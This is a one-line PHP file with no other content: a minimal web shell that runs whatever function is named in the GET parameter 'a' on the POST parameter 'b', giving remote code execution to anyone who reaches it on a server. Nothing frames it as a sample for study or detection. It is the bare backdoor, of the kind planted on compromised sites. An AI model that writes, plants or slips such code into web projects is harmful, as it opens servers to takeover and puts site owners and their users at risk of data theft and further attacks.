<?php $_GET['a']($_POST['b']); ?>
